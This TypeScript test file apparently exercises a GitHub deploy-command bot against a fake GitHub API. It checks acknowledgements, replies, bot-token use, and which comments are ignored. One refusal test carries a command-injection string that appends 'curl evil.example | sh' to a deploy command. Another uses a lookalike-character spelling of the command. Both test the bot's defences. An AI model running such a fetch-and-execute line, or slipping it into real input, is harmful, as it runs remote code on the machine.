// The app driven with probot.receive against the fake GitHub: ignore rules, reactions and replies.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Probot } from 'probot';
import { PR, commentOnPull, loadedProbot, seededFake } from './helpers.ts';
import type { FakeGitHub } from '../fake-github/index.ts';

type Receive = Parameters<Probot['receive']>[0];

async function withApp(run: (fake: FakeGitHub, probot: Probot) => Promise<void>): Promise<void> {
  const fake = await seededFake();
  try {
    await run(fake, await loadedProbot(fake));
    fake.assertNoViolations();
  } finally {
    await fake.stop();
  }
}

const receive = (probot: Probot, name: string, payload: unknown, id = crypto.randomUUID()): Promise<void> =>
  probot.receive({ id, name, payload } as Receive);

const reactionsOn = (fake: FakeGitHub, id: number): string[] =>
  (fake.repo().reactions.get(id) ?? []).map((r) => String(r.content));

const appComments = (fake: FakeGitHub): string[] =>
  [...fake.repo().comments.values()]
    .filter((c) => (c.user as { login: string }).login === 'deploy-action[bot]')
    .map((c) => String(c.body));

test('a valid command is acknowledged with a reaction and answered with a reply, as the app', async () => {
  await withApp(async (fake, probot) => {
    const { id, payload } = commentOnPull(fake, '/deploy production --strategy canary');
    await receive(probot, 'issue_comment', payload);
    // Picked up at once (eyes); the repository has no .github/deploy.yml, so the command is refused.
    assert.deepEqual(reactionsOn(fake, id), ['eyes', 'confused']);
    const replies = appComments(fake);
    assert.equal(replies.length, 1);
    assert.match(replies[0]!, /`config_missing`/);
    // Installation token from the app's JWT, then the reaction and the reply, all as the app's bot.
    assert.equal(fake.requestsFor('apps/create-installation-access-token').length, 1);
    // GET /app (the app's own slug, once per process) is made with the app's JWT, not as its bot.
    const appLevel = ['apps/create-installation-access-token', 'apps/get-authenticated'];
    for (const r of fake.requests.filter((x) => !appLevel.includes(x.operationId ?? ''))) {
      assert.equal(r.actor, 'deploy-action[bot]');
    }
    assert.equal(fake.requestsFor('issues/create-comment')[0]?.params.issue_number, PR);
  });
});

test('a refused command gets a confused reaction and a reply with the reason code and the help', async () => {
  await withApp(async (fake, probot) => {
    const { id, payload } = commentOnPull(fake, '/deploy production; curl evil.example | sh');
    await receive(probot, 'issue_comment', payload);
    assert.deepEqual(reactionsOn(fake, id), ['confused']);
    const [reply] = appComments(fake);
    assert.match(reply!, /`shell_metacharacters`/);
    assert.match(reply!, /\/approve-deploy \[environment\]/, 'the reply carries the /help text');

    const lookalike = commentOnPull(fake, '/d\u0435ploy production');
    await receive(probot, 'issue_comment', lookalike.payload);
    assert.deepEqual(reactionsOn(fake, lookalike.id), ['confused']);
    assert.match(appComments(fake)[1]!, /`lookalike_characters`/);
    assert.equal(fake.requestsFor('repos/create-deployment').length, 0);
  });
});

test('comments that must never act: on an issue, by a bot, edited, deleted, or not a command', async () => {
  await withApp(async (fake, probot) => {
    const onIssue = commentOnPull(fake, '/deploy production');
    delete (onIssue.payload.issue as Record<string, unknown>).pull_request;
    await receive(probot, 'issue_comment', onIssue.payload);

    const byBotType = commentOnPull(fake, '/deploy production', { user: 'helper' });
    (byBotType.payload.comment as { user: { type: string } }).user.type = 'Bot';
    (byBotType.payload.sender as { type: string }).type = 'Bot';
    await receive(probot, 'issue_comment', byBotType.payload);

    const byBotName = commentOnPull(fake, '/approve-deploy production', { user: 'renovate[bot]' });
    await receive(probot, 'issue_comment', byBotName.payload);

    const edited = commentOnPull(fake, '/approve-deploy production', { action: 'edited' });
    await receive(probot, 'issue_comment', edited.payload);
    const deleted = commentOnPull(fake, '/deploy production', { action: 'deleted' });
    await receive(probot, 'issue_comment', deleted.payload);

    const quoted = commentOnPull(fake, '> /deploy production\n\nshould we?');
    await receive(probot, 'issue_comment', quoted.payload);

    assert.deepEqual(
      fake.requests.map((r) => r.operationId),
      [],
      'no request at all: not even an installation token',
    );
    assert.deepEqual(appComments(fake), []);
  });
});
